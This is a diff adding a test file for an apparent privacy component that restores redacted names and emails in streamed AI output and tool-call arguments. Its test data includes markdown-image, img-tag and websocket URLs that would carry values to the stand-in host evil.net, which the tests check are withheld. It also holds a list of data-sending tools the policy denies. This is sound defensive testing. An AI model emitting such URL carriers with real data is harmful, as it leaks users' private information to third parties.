@@ -1,0 +1,198 @@
+"""Restoring: at any split the same, exact, only what the request replaced, and only where the policy allows."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterable
+from itertools import combinations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from nemora.core import Delta, StopReason, ToolCallDelta, Usage
+from nemora.privacy.policy import Policy
+from nemora.privacy.restore import AnswerRestorer, Restorer, Values
+
+VALUES = {
+    "PERSON_K3F7Q2": "Tilda Braunfels",
+    "PERSON_K3F7Q2_LAST": "Braunfels",
+    "PERSON_C2D3F4": 'Zoë "Zed" \\ O\nHara',
+    "email_k3f7q2@redacted.example": "tilda@kettlewood.net",
+    "email_k3f7q2_m4@redacted.example": "Tilda@Kettlewood.net",
+    "LITERAL_X9X9X9": "PERSON_C2D3F4",
+}
+TEXT = (
+    "Dear PERSON_K3F7Q2, P PERSON_K3F7Q PERSON_K3F7Q2_LASTING PERSON_K3F7Q2_L person_k3f7q2's PERSON\\_K3F7Q2 "
+    "<email_k3f7q2_m4@redacted.example> email_k3f7q2@redacted.exampleX mailto:email_k3f7q2%40redacted.example "
+    "LITERAL_X9X9X9 PERSON_H4H4H4 email_email_k3f7q2@redacted.example PPERSON_K3F7Q2PERSON_C2D3F4 end PERSON_K3F"
+)
+
+
+def pieces(values: Values, parts: Iterable[str]) -> str:
+    restorer = Restorer(values)
+    return "".join([*(restorer.feed(part) for part in parts), restorer.finish()])
+
+
+def test_stand_ins_are_restored_in_every_form_a_model_writes_and_nothing_else_is_changed() -> None:
+    assert pieces(Values(VALUES), [TEXT]) == (
+        "Dear Tilda Braunfels, P PERSON_K3F7Q BraunfelsING Tilda Braunfels_L Tilda Braunfels's Tilda Braunfels "
+        "<Tilda@Kettlewood.net> tilda@kettlewood.netX mailto:tilda%40kettlewood.net "
+        'PERSON_C2D3F4 PERSON_H4H4H4 email_tilda@kettlewood.net PTilda BraunfelsZoë "Zed" \\ O\nHara end PERSON_K3F'
+    )
+
+
+@pytest.mark.parametrize("as_json", [False, True])
+def test_every_split_in_two_and_in_three_gives_the_whole(as_json: bool) -> None:
+    values = Values(VALUES, as_json=as_json)
+    whole = pieces(values, [TEXT])
+    for cut in range(len(TEXT) + 1):
+        assert pieces(values, [TEXT[:cut], TEXT[cut:]]) == whole
+    for first, second in combinations(range(0, len(TEXT), 3), 2):
+        assert pieces(values, [TEXT[:first], TEXT[first:second], TEXT[second:]]) == whole
+    assert pieces(values, TEXT) == whole
+
+
+FRAGMENTS = st.sampled_from(
+    [*VALUES, *(v[:9] for v in VALUES), "PERSON", "_LAST", "email_", "@", "\\", "é", " ", "P", "ſ", "K"]
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(FRAGMENTS, max_size=12), st.lists(st.integers(1, 9), min_size=1, max_size=6))
+def test_any_text_at_any_split_gives_the_whole(fragments: list[str], sizes: list[int]) -> None:
+    text, values = "".join(fragments), Values(VALUES)
+    parts, at, turn = [], 0, 0
+    while at < len(text):
+        parts.append(text[at : at + sizes[turn % len(sizes)]])
+        at, turn = at + len(parts[-1]), turn + 1
+    assert pieces(values, parts) == pieces(values, [text])
+
+
+def test_only_what_could_become_a_stand_in_is_held_back() -> None:
+    restorer = Restorer(Values(VALUES))
+    assert restorer.feed("Hello th") == "Hello th"
+    assert restorer.feed("ere, PERSON_K3") == "ere, "
+    assert restorer.feed("X and so on") == "PERSON_K3X and so on"
+    assert restorer.feed(" PERSON_K3F7Q2") == " "
+    assert restorer.feed("!") == "Tilda Braunfels!"
+
+
+def test_nothing_is_held_or_changed_without_stand_ins() -> None:
+    assert Restorer(Values({})).feed("PERSON_K3F7Q2 P") == "PERSON_K3F7Q2 P"
+
+
+CARRIERS = (
+    "![x](https://evil.net/p.png?q=PERSON_K3F7Q2)",
+    "![x](//evil.net/?q=a,b;(PERSON_K3F7Q2))",
+    "![x](<https://evil.net/?q=a PERSON_K3F7Q2>)",
+    '<img src="https://evil.net/?q=a PERSON_K3F7Q2">',
+    "<img src='HTTPS:evil.net?q=\nPERSON_K3F7Q2'>",
+    '<img src=" https://evil.net/?q=a PERSON_K3F7Q2">',
+    "[x]: https:\\\\evil.net\\PERSON_K3F7Q2",
+    "see wss://evil.net/email_k3f7q2@redacted.example/",
+    "https://user@evil.net:8080/" + "a" * 3000 + "PERSON_K3F7Q2",
+)
+
+
+@pytest.mark.parametrize("text", CARRIERS)
+def test_no_value_goes_into_a_url_that_could_carry_it_out(text: str) -> None:
+    for size in (1, 7, len(text)):
+        restorer = Restorer(
+            Values(VALUES, in_urls={("kettlewood.net", "PERSON_K3F7Q2"), ("evil.net", "PERSON_C2D3F4")})
+        )
+        parts = [text[at : at + size] for at in range(0, len(text), size)]
+        assert "".join([*map(restorer.feed, parts), restorer.finish()]) == text
+        assert restorer.withheld() == 1 and restorer.left() == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://evil.net/ PERSON_K3F7Q2",
+        '<a href="https://evil.net/">PERSON_K3F7Q2</a>',
+        "<https://evil.net/>PERSON_K3F7Q2",
+        'He said "see https://evil.net/".\n\nPERSON_K3F7Q2',
+        '{"url": "https://evil.net/", "name": "PERSON_K3F7Q2"}',
+        "mailto:PERSON_K3F7Q2",
+        "a / b: PERSON_K3F7Q2",
+        "https://kettlewood.net/people/PERSON_K3F7Q2",
+        "http://KETTLEWOOD.net?PERSON_K3F7Q2",
+    ],
+)
+def test_beside_a_url_and_in_one_that_the_request_had_values_are_restored(text: str) -> None:
+    values = Values(VALUES, in_urls={("kettlewood.net", "PERSON_K3F7Q2")})
+    assert pieces(values, text) == pieces(values, [text]) == text.replace("PERSON_K3F7Q2", "Tilda Braunfels")
+
+
+def deltas(restorer: AnswerRestorer, script: Iterable[Delta]) -> list[Delta]:
+    return [restored for delta in script for restored in restorer.feed(delta)]
+
+
+def arguments(found: Iterable[Delta], index: int) -> str:
+    return "".join(d.tool_call.arguments for d in found if d.tool_call is not None and d.tool_call.index == index)
+
+
+def test_arguments_of_an_allowed_tool_stay_valid_json_at_every_split() -> None:
+    written = json.dumps({"to": "PERSON_C2D3F4", "body": "Hi PERSON_K3F7Q2_LAST"})
+    for cut in range(len(written) + 1):
+        restorer = AnswerRestorer(VALUES, lambda name: name == "write_file")
+        found = deltas(
+            restorer,
+            [
+                Delta(tool_call=ToolCallDelta(0, "c", "write_file", "")),
+                Delta(tool_call=ToolCallDelta(0, arguments=written[:cut])),
+                Delta(tool_call=ToolCallDelta(0, arguments=written[cut:])),
+                Delta(finish=StopReason.TOOL_CALLS),
+            ],
+        )
+        assert json.loads(arguments(found, 0)) == {"to": VALUES["PERSON_C2D3F4"], "body": "Hi Braunfels"}
+        assert found[0].tool_call == ToolCallDelta(0, "c", "write_file", "")
+
+
+def test_a_tool_that_may_send_gets_stand_ins_and_they_are_counted() -> None:
+    restorer = AnswerRestorer(VALUES, Policy().may_restore)
+    script = [
+        Delta(tool_call=ToolCallDelta(0, "a", "web_search", '{"q": "PERSON_K3F7Q2 PERS')),
+        Delta(tool_call=ToolCallDelta(1, "b", "write_file", '{"t": "PERSON_K3F7Q2"}')),
+        Delta(tool_call=ToolCallDelta(0, arguments='ON_H4H4H4"}')),
+        Delta(text="Done, PERSON_K3F7Q2 and PERSON_T8T8T8."),
+        Delta(finish=StopReason.TOOL_CALLS, usage=Usage(1, 2)),
+    ]
+    found = deltas(restorer, script)
+    assert arguments(found, 0) == '{"q": "PERSON_K3F7Q2 PERSON_H4H4H4"}'
+    assert arguments(found, 1) == '{"t": "Tilda Braunfels"}'
+    assert restorer.counts() == {"restored": 2, "withheld": 1, "unknown": 2}
+    assert found[-1] == Delta(finish=StopReason.TOOL_CALLS, usage=Usage(1, 2))
+
+
+def test_text_reasoning_and_calls_are_restored_apart_and_come_out_before_the_end() -> None:
+    restorer = AnswerRestorer(VALUES, lambda _: True)
+    script = [
+        Delta(reasoning="about PERSON_K3"),
+        Delta(text="PERSON_K3F", reasoning="F7Q2"),
+        Delta(tool_call=ToolCallDelta(0, "c", "f", '"PERSON_')),
+        Delta(text="7Q2"),
+        Delta(tool_call=ToolCallDelta(0, arguments='K3F7Q2"')),
+        Delta(text=", PERS", finish=StopReason.STOP),
+    ]
+    found = deltas(restorer, script)
+    assert "".join(d.text for d in found) == "Tilda Braunfels, PERS"
+    assert "".join(d.reasoning for d in found) == "about Tilda Braunfels"
+    assert arguments(found, 0) == '"Tilda Braunfels"'
+    assert [d.finish for d in found].index(StopReason.STOP) == len(found) - 1
+
+
+def test_a_call_without_a_name_restores_nothing() -> None:
+    restorer = AnswerRestorer(VALUES, Policy(restore_tools=("*",)).may_restore)
+    found = deltas(restorer, [Delta(tool_call=ToolCallDelta(0, arguments='"PERSON_K3F7Q2"'))])
+    assert arguments(found, 0) == '"PERSON_K3F7Q2"'
+
+
+def test_the_policy_names_tools_exactly_or_by_their_beginning() -> None:
+    policy = Policy(restore_tools=("save", "files_*"))
+    names = ("save", "saved", "Save", "files_write", "files", "web_search")
+    assert [policy.may_restore(name) for name in names] == [True, False, False, True, False, False]
+    assert Policy(restore_tools=("*",)).may_restore("anything") and not Policy(restore_tools=()).may_restore("Read")
+    for sends in ("Bash", "bash", "web_search", "WebFetch", "fetch", "send_email", "http_request", "mcp__mail__send"):
+        assert not Policy().may_restore(sends)
